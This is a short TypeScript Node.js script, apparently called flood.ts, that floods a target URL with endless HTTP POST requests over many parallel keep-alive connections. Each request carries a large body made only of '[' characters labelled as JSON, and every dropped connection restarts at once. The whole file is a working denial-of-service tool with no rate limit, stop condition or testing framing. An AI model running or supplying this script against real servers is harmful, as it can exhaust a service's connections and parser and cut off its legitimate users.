// Posts the same body over and over, by so many connections at once: node flood.ts <url> <connections> <bytes>
import { Agent, request } from 'node:http'

const [url = '', connections, bytes] = process.argv.slice(2)
const agent = new Agent({ keepAlive: true, maxSockets: Number(connections) })
const body = Buffer.alloc(Number(bytes), '[')

function post() {
  const sent = request(url, { method: 'POST', agent, headers: { 'content-type': 'application/json' } }, answer => {
    answer.resume().once('close', post)
  })
  // A connection that is closed while it sends begins anew.
  sent.once('error', () => setImmediate(post))
  sent.end(body)
}

for (let i = 0; i < Number(connections); i++) post()
process.stdout.write('flooding\n')
process.once('disconnect', () => process.exit())
